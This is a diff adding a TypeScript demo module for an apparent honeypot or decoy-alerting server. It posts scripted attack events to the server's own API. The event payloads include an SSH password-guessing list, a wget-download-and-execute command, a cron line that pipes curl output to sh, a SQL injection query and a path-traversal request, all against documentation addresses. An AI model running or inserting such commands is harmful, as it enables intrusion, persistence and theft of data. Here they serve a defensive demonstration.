@@ -1,0 +1,146 @@
+/**
+ * The written attack that `up --demo` plays: one intruder over SSH and the web, one office laptop with a decoy file, and
+ * a passer-by who does nothing. It goes the way of every event: over `POST /api/events`, with a node's key.
+ */
+import { randomBytes } from 'node:crypto';
+import { keyHash, newNodeKey } from '../api/auth/node-key.ts';
+import { nodeId } from '../core/ids.ts';
+import type { Server } from '../server.ts';
+import { CliError } from './failure.ts';
+
+type Event = { [key: string]: unknown };
+
+const intruder = '203.0.113.66';
+const guesses = ['123456', 'admin', 'root', 'toor', 'password', 'qwerty', 'raspberry', 'changeme', 'letmein'];
+
+/** What happened, in minutes before now. All addresses are from the ranges set aside for documentation. */
+function script(): { minutesAgo: number; event: Event }[] {
+  const ssh = (minutesAgo: number, activity: string, payload: string, extra: Event = {}) => ({
+    minutesAgo,
+    event: {
+      service: 'ssh',
+      source_ip: intruder,
+      activity,
+      payload,
+      extra: { session: 'demo-ssh-1', ...extra },
+    },
+  });
+  const web = (minutesAgo: number, payload: string) => ({
+    minutesAgo,
+    event: { service: 'http', source_ip: intruder, activity: 'http request', payload, extra: {} },
+  });
+  const login = (minutesAgo: number, password: string, succeeded: boolean) =>
+    ssh(minutesAgo, succeeded ? 'login succeeded' : 'login failed', `root:${password}`, {
+      username: 'root',
+      password,
+    });
+  const file = (minutesAgo: number, action: string) => ({
+    minutesAgo,
+    event: {
+      hostname: 'fin-laptop-07',
+      username: 'j.doe',
+      file_accessed: 'passwords-2026.xlsx',
+      file_path: 'C:\\Users\\j.doe\\Documents\\passwords-2026.xlsx',
+      action,
+      severity: 'CRITICAL',
+      alert_type: 'decoy_access',
+      process_name: 'powershell.exe',
+    },
+  });
+  return [
+    {
+      minutesAgo: 55,
+      event: { service: 'ssh', source_ip: '198.51.100.23', activity: 'connection', payload: '' },
+    },
+    {
+      minutesAgo: 41,
+      event: {
+        service: 'http',
+        source_ip: '198.51.100.23',
+        activity: 'http request',
+        payload: 'GET /robots.txt HTTP/1.1\r\nHost: shop.example\r\n\r\n',
+      },
+    },
+    ...guesses.map((password, at) => login(30 - at * 0.1, password, false)),
+    login(28.9, 'dragon', true),
+    ssh(28.5, 'command', 'uname -a; cat /proc/cpuinfo | grep name | wc -l'),
+    ssh(28.2, 'command', 'cd /tmp && wget http://198.51.100.99/bins/x86 -O .x && chmod +x .x && ./.x'),
+    ssh(28.1, 'file download', 'http://198.51.100.99/bins/x86', { url: 'http://198.51.100.99/bins/x86' }),
+    ssh(
+      27.9,
+      'command',
+      '(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.99/c.sh | sh") | crontab -',
+    ),
+    web(
+      14,
+      'GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n',
+    ),
+    web(13, 'GET /download?file=../../../../etc/passwd HTTP/1.1\r\nHost: shop.example\r\n\r\n'),
+    file(6, 'ACCESSED'),
+    file(4, 'COPIED'),
+  ];
+}
+
+/** The attack as native events that end now. Ids are fixed, so playing it again changes nothing. */
+export const demoEvents = (nowMs: number): Event[] =>
+  script().map(({ minutesAgo, event }, at) => ({
+    event_id: `demo-${at + 1}`,
+    timestamp: new Date(nowMs - minutesAgo * 60_000).toISOString(),
+    ...event,
+  }));
+
+/** The demo's node and a key for it: a new one at every start, because no key is kept anywhere. */
+async function demoNode(server: Server, userId: string): Promise<{ node_id: string; key: string }> {
+  const tenant = server.store.of(userId);
+  const key = newNodeKey(randomBytes);
+  const known = (await tenant.nodes()).find((node) => node.name === 'demo');
+  if (known) {
+    await tenant.updateNode(known.node_id, { key_hash: keyHash(key), status: 'active' });
+    return { node_id: known.node_id, key };
+  }
+  const node_id = nodeId((bytes) => randomBytes(bytes).toString('hex'));
+  await tenant.createNode({
+    node_id,
+    user_id: userId,
+    name: 'demo',
+    status: 'active',
+    os_type: 'demo',
+    deployment_config: null,
+    key_hash: keyHash(key),
+    created_at: new Date().toISOString(),
+    last_seen: null,
+    agent: null,
+    deleted_at: null,
+    farewell_until: null,
+  });
+  return { node_id, key };
+}
+
+/** Plays the attack against the running server. Resolves with what its answer counts. */
+export async function playDemo(
+  server: Server,
+  userId: string,
+  nowMs = Date.now(),
+): Promise<{ accepted: number; duplicate: number; alerts: number }> {
+  const { key } = await demoNode(server, userId);
+  const answer = await server.app.inject({
+    method: 'POST',
+    url: '/api/events',
+    headers: { 'x-node-key': key, 'content-type': 'application/json' },
+    payload: JSON.stringify(demoEvents(nowMs)),
+  });
+  if (answer.statusCode !== 200)
+    throw new CliError(
+      `the demo was not taken: the server answers ${answer.statusCode} ${answer.body.slice(0, 200)}`,
+    );
+  const body: {
+    accepted: number;
+    duplicate: number;
+    results: { status: string; alert_created?: boolean }[];
+  } = answer.json();
+  return {
+    accepted: body.accepted,
+    duplicate: body.duplicate,
+    alerts: body.results.filter((one) => one.status === 'accepted' && one.alert_created).length,
+  };
+}
